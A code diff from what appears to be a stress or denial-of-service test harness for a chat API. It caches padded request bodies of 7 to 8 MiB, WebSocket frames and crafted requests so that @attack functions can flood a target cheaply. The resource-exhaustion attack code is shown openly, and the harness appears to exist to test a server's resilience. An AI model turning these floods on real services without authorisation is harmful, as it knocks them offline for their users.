@@ -48,9 +48,15 @@ def chat_body(tokens, text="Hello", **fields):
                        **fields}).encode()
 
 
-@functools.cache
+@functools.lru_cache(maxsize=2)
 def padded_chat(count):
-    return chat_body(2000, padding="x" * count)
+    """The same bytes for every connection: at nice 19 the attacker has no time to make them anew."""
+    return chat_body(500, padding="x" * count)
+
+
+@functools.lru_cache(maxsize=2)
+def padded_request(target, count):
+    return target.post(CHAT, padded_chat(count), "prefer: respond-async")
 
 
 # --- HTTP/2 by hand: the frames that an honest library would not send ---
@@ -211,8 +217,7 @@ async def h2_bodies(target):
 async def unknown_fields(target):
     """Requests that are answered later and carry seven megabytes that nobody asked for."""
     async with await target.connect() as connection:
-        body = padded_chat(7 * MIB)
-        await connection.send(target.post(CHAT, body, "prefer: respond-async"))
+        await connection.send(padded_request(target, 7 * MIB))
         await connection.receive()
 
 
@@ -265,12 +270,17 @@ async def ws_pings(target):
 @attack("bodies", 40, only_keyed=True)
 async def ws_long_messages(target):
     """Messages of almost 8 MiB, of which only a few bytes mean something."""
-    message = ws_frame(padded_chat(8 * MIB - 4096))
+    message = padded_message(8 * MIB - 4096)
     async with await target.connect() as connection:
         await ws_open(target, connection)
         while not target.is_over:
             await connection.send(message)
             await connection.receive()
+
+
+@functools.lru_cache(maxsize=2)
+def padded_message(count):
+    return ws_frame(padded_chat(count))
 
 
 async def ws_open(target, connection):
